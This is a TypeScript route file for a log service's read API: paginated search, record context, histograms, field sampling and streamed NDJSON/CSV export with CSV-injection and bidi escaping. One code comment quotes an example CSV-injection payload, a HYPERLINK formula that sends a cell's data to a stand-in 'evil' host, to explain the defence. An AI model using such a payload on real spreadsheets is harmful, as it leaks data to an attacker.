// Read side: search with cursors, one record, context, histogram, sources, streamed export,
// and the prototype's GET /logs.
import { Readable } from 'node:stream';
import type { FastifyInstance } from 'fastify';
import type { FieldsResponse, HistogramResponse, LogsPage, SplitHistogramResponse, TableResponse } from '../../shared/api.js';
import { escapeBidiJson, escapeBidiText } from '../../shared/bidi.js';
import { LogpipeError } from '../../shared/errors.js';
import { LEVELS, type Level } from '../../shared/levels.js';
import type { LogRecord } from '../../shared/record.js';
import type { Limits } from '../config.js';
import { anchorOrder, decodeCursor, encodeCursor, type Anchor, type Order } from '../../shared/cursor.js';
import { queryError } from '../../shared/query/index.js';
import type { QueryEngine } from '../query/engine.js';
import type { Position, Store } from '../storage/store.js';
import { filterSchema, parseFilter, parseTime, type FilterQuery } from './filters.js';
import { oneOf, queryString, text, wholeNumber } from './schema.js';

/** A field name as the query language writes it (parse.ts FIELD_NAME), for `by=`. */
const FIELD_PATH = /^[\p{L}_@][\p{L}\p{N}_.@/-]*$/u;

export interface QueryRoutesOptions {
  store: Store;
  engine: QueryEngine;
  limits: Limits;
  /** The id of the newest record stored (the live hub's). */
  lastId(): number;
}

/**
 * One CSV cell. CSV is read by people (a spreadsheet, a pager), so bidirectional formatting and
 * control characters are written as visible "<U+202E>" escapes rather than applied, and a cell
 * a spreadsheet would run as a formula (one starting with = + - @ or a tab: a log line such as
 * `=HYPERLINK("http://evil/?"&A1,"open")`) gets a leading apostrophe, OWASP's advice for CSV
 * injection (docs/security.md); the NDJSON export is the lossless one.
 */
function csvField(v: unknown): string {
  let s = escapeBidiText(v === null || v === undefined ? '' : typeof v === 'string' ? v : JSON.stringify(v));
  if (FORMULA_START.test(s)) s = `'${s}`;
  return /[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

/** What a spreadsheet takes for the start of a formula (a CR is escaped before this is asked). */
const FORMULA_START = /^[=+\-@\t]/;

/** Where a page starts (src/shared/cursor.ts): at most one of these. */
interface StartQuery {
  cursor?: string;
  before?: number;
  after?: number;
  order?: Order;
}

/** Schema properties of StartQuery. */
const START = {
  cursor: { type: 'string', description: 'a cursor this server issued, given once' },
  before: wholeNumber(1, Number.MAX_SAFE_INTEGER, 'a whole number (a record id)'),
  after: wholeNumber(1, Number.MAX_SAFE_INTEGER, 'a whole number (a record id)'),
  order: oneOf('asc', 'desc'),
};

const ID_PARAMS = { type: 'object', properties: { id: wholeNumber(0, 999_999_999_999_999, 'a whole number (a record id)') }, required: ['id'] };

export default async function queryRoutes(app: FastifyInstance, opts: QueryRoutesOptions): Promise<void> {
  const { store, engine, limits } = opts;
  const read = { config: { access: 'read' as const } };

  app.get<{ Querystring: FilterQuery & StartQuery & { limit?: number } }>('/api/v1/logs', {
    ...read,
    schema: { querystring: queryString({ ...filterSchema(), ...START, limit: wholeNumber(1, limits.maxQueryLimit) }) },
  }, async (req): Promise<LogsPage | TableResponse> => {
    const q = req.query;
    const prepared = engine.prepare(q.q, parseFilter(q));
    // A pipe turns the matches into a table (docs/query.md): counted newest first within the budget.
    if (prepared.query.pipe) {
      const given = (['cursor', 'before', 'after', 'limit', 'order'] as const).find((k) => q[k] !== undefined);
      if (given) throw new LogpipeError('LP_ERR_INVALID_QUERY', `Query parameter "${given}" does not apply to a query with a pipe, which answers with one table.`, { param: given });
      const t = await engine.table(prepared, prepared.query.pipe);
      return { columns: t.columns, rows: t.rows, matched: t.matched, scanned: t.scanned, partial: t.partial, ...(t.completeFrom !== undefined ? { completeFrom: t.completeFrom } : {}) };
    }
    const limit = q.limit ?? 100;
    const start = await pageStart(store, q);
    const orderParam = q.order;
    // A cursor carries its own direction (it overrides `order`, as it always has), and a page
    // beside an anchor walks away from it: an `order` saying otherwise is a mistake to report.
    if (start && start.param !== 'cursor' && orderParam && orderParam !== start.order) {
      throw new LogpipeError('LP_ERR_INVALID_QUERY', `Query parameter "order" must be ${start.order} (or left out) with "${start.param}".`, { param: 'order' });
    }
    const order = start?.order ?? orderParam ?? 'desc';
    const page = await engine.page(prepared, { limit, order, after: start?.position });
    const { logs, next } = page;
    const first = logs[0];
    const body: LogsPage = {
      logs,
      nextCursor: next ? encodeCursor({ order, ts: next.ts, id: next.id }) : null,
      prevCursor: start && first ? encodeCursor({ order: order === 'asc' ? 'desc' : 'asc', ts: first.ts, id: first.id }) : null,
    };
    // Said only when candidates were scanned: how many, and whether the budget cut the page short.
    if (!prepared.exact && !prepared.empty) {
      body.scanned = page.scanned;
      body.partial = page.partial;
    }
    return body;
  });

  app.get<{ Querystring: FilterQuery & StartQuery & { format?: 'ndjson' | 'csv' } }>('/api/v1/logs/export', {
    ...read,
    schema: { querystring: queryString({ ...filterSchema(), ...START, format: oneOf('ndjson', 'csv') }) },
  }, async (req, reply) => {
    const q = req.query;
    const prepared = engine.prepare(q.q, parseFilter(q));
    if (prepared.query.pipe) throw queryError('a pipe is answered as a table by GET /api/v1/logs, not exported', prepared.query.pipe.span.start, prepared.query.pipe.span.end);
    const format = q.format ?? 'ndjson';
    const start = await pageStart(store, q);
    const orderParam = q.order;
    if (start && start.param !== 'cursor' && orderParam && orderParam !== start.order) {
      throw new LogpipeError('LP_ERR_INVALID_QUERY', `Query parameter "order" must be ${start.order} (or left out) with "${start.param}".`, { param: 'order' });
    }
    const order = start?.order ?? orderParam ?? 'asc';
    // Pages of 2,000 rows pulled as the client reads: memory stays flat however many lines match.
    async function* lines(): AsyncGenerator<string> {
      if (format === 'csv') yield 'id,time,level,source,host,message,attrs\r\n';
      const after: Position | undefined = start?.position;
      for await (const rows of engine.stream(prepared, order, after)) {
        let chunk = '';
        for (const r of rows) {
          chunk += format === 'csv'
            ? [r.id, new Date(r.ts).toISOString(), r.level, csvField(r.source), csvField(r.host), csvField(r.message), csvField(r.attrs)].join(',') + '\r\n'
            : escapeBidiJson(JSON.stringify(r)) + '\n';
        }
        yield chunk;
      }
    }
    const stamp = new Date().toISOString().replace(/[:.]/g, '-');
    reply
      .header('content-type', format === 'csv' ? 'text/csv; charset=utf-8' : 'application/x-ndjson; charset=utf-8')
      .header('content-disposition', `attachment; filename="logpipe-${stamp}.${format === 'csv' ? 'csv' : 'ndjson'}"`);
    return reply.send(Readable.from(lines()));
  });

  app.get<{ Params: { id: number } }>('/api/v1/logs/:id', { ...read, schema: { params: ID_PARAMS } }, async (req): Promise<LogRecord> => {
    const id = req.params.id;
    const rec = await store.get(id);
    if (!rec) throw new LogpipeError('LP_ERR_NOT_FOUND', `No record has id ${id}.`);
    return rec;
  });

  app.get<{ Params: { id: number }; Querystring: { before?: number; after?: number } }>('/api/v1/logs/:id/context', {
    ...read,
    schema: { params: ID_PARAMS, querystring: queryString({ before: wholeNumber(0, 500), after: wholeNumber(0, 500) }) },
  }, async (req) => {
    const id = req.params.id;
    const before = req.query.before ?? 20;
    const after = req.query.after ?? 20;
    const ctx = await store.context(id, before, after);
    if (!ctx) throw new LogpipeError('LP_ERR_NOT_FOUND', `No record has id ${id}.`);
    return ctx;
  });

  app.get<{ Querystring: FilterQuery & { buckets?: number; by?: string; top?: number } }>('/api/v1/histogram', {
    ...read,
    schema: { querystring: queryString({ ...filterSchema(), buckets: wholeNumber(1, 1000), by: text(256), top: wholeNumber(1, 50) }) },
  }, async (req): Promise<HistogramResponse | SplitHistogramResponse> => {
    const q = req.query;
    const filter = parseFilter(q);
    const to = filter.to ?? Date.now();
    const from = filter.from ?? to - 3_600_000;
    if (from >= to) throw new LogpipeError('LP_ERR_INVALID_QUERY', 'Query parameter "from" must be before "to".');
    // A pipe is not a condition: the histogram counts the records the pipe would count.
    const prepared = engine.prepare(q.q, filter);
    const by = (q.by ?? 'level').trim() || 'level';
    if (by !== 'level' && !FIELD_PATH.test(by)) throw new LogpipeError('LP_ERR_INVALID_QUERY', `Query parameter "by" must be a field name such as source or http.status, got "${by.slice(0, 40)}".`, { param: 'by' });
    // lastId: counted again once if records were stored while counting, so that it holds for
    // the counts (records up to it in them, none after); a second race is left to the next ask.
    let lastId = opts.lastId();
    let h = await engine.histogram(prepared, { from, to, buckets: q.buckets ?? 60, by, top: q.top ?? 10 });
    if (opts.lastId() !== lastId) {
      lastId = opts.lastId();
      h = await engine.histogram(prepared, { from, to, buckets: q.buckets ?? 60, by, top: q.top ?? 10 });
    }
    // The store may align buckets to whole minutes and return another count than asked for:
    // the starts follow the counts it returned.
    const buckets = Array.from({ length: h.n }, (_, i) => h.from + i * h.step);
    const scan = h.scanned || h.partial ? { scanned: h.scanned, partial: h.partial, ...(h.completeFrom !== undefined ? { completeFrom: h.completeFrom } : {}) } : {};
    if ('counts' in h) {
      const totals = {} as Record<Level, number>;
      for (const l of LEVELS) totals[l] = (h.counts[l] ?? []).reduce((a, b) => a + b, 0);
      return { from: h.from, to: h.to, step: h.step, buckets, counts: h.counts, totals, lastId, ...scan };
    }
    return { from: h.from, to: h.to, step: h.step, buckets, by, series: h.series, other: h.other, ...scan, scanned: h.scanned, partial: h.partial };
  });

  app.get<{ Querystring: FilterQuery & { sample?: number; values?: number } }>('/api/v1/fields', {
    ...read,
    schema: { querystring: queryString({ ...filterSchema(), sample: wholeNumber(1, 100_000), values: wholeNumber(1, 100) }) },
  }, async (req): Promise<FieldsResponse> => {
    const q = req.query;
    const prepared = engine.prepare(q.q, parseFilter(q));
    const r = await engine.fields(prepared, { sample: q.sample ?? 10_000, values: q.values ?? 10 });
    return { fields: r.fields, matched: r.matched, scanned: r.scanned, sampled: r.sampled, ...(r.completeFrom !== undefined ? { completeFrom: r.completeFrom } : {}) };
  });

  app.get('/api/v1/sources', read, async () => ({ sources: await store.sources() }));

  // The prototype's read endpoint: message strings, oldest first, the newest `limit` of them.
  app.get<{ Querystring: Pick<FilterQuery, 'from' | 'to'> & { limit?: number } }>('/logs', {
    ...read,
    schema: { querystring: queryString({ ...filterSchema(), limit: wholeNumber(1, Math.max(limits.maxQueryLimit, 10_000)) }) },
  }, async (req) => {
    const q = req.query;
    const limit = q.limit ?? 1000;
    const rows = await store.query({ limit, order: 'desc', from: parseTime(q.from, 'from'), to: parseTime(q.to, 'to') });
    const out = new Array<string>(rows.length);
    for (let i = 0; i < rows.length; i++) out[i] = rows[rows.length - 1 - i].message;
    return out;
  });
}

/**
 * Where a page starts: after the place a cursor names, or beside the record `before`/`after`
 * names (src/shared/cursor.ts), in event-time order; undefined for the first page. At most one
 * of the three may be given. An id-only cursor (the older form) takes the ts of its record; a
 * record that is gone (retention) cannot be placed in time and is a 400, so the client starts over.
 */
async function pageStart(store: Store, q: StartQuery): Promise<{ order: Order; position: Position; param: string } | undefined> {
  const given = (['cursor', 'before', 'after'] as const).filter((p) => q[p] !== undefined);
  if (given.length > 1) throw new LogpipeError('LP_ERR_INVALID_QUERY', `Give only one of "cursor", "before" and "after", not ${given.map((p) => `"${p}"`).join(' and ')}.`, { param: given[1] });
  if (q.cursor !== undefined) {
    const c = decodeCursor(q.cursor);
    if (c.ts !== undefined) return { order: c.order, position: { ts: c.ts, id: c.id }, param: 'cursor' };
    const rec = await store.get(c.id);
    if (!rec) throw new LogpipeError('LP_ERR_INVALID_CURSOR', `The cursor points at record ${c.id}, which no longer exists; start again without a cursor.`);
    return { order: c.order, position: { ts: rec.ts, id: rec.id }, param: 'cursor' };
  }
  const anchor: Anchor | undefined = q.before !== undefined ? { before: q.before } : q.after !== undefined ? { after: q.after } : undefined;
  if (!anchor) return undefined;
  const [param, id] = 'before' in anchor ? ['before', anchor.before] : ['after', anchor.after];
  const rec = await store.get(id);
  if (!rec) throw new LogpipeError('LP_ERR_INVALID_QUERY', `Query parameter "${param}" names record ${id}, which does not exist (or no longer does); start again without it.`, { param });
  return { order: anchorOrder(anchor), position: { ts: rec.ts, id: rec.id }, param };
}
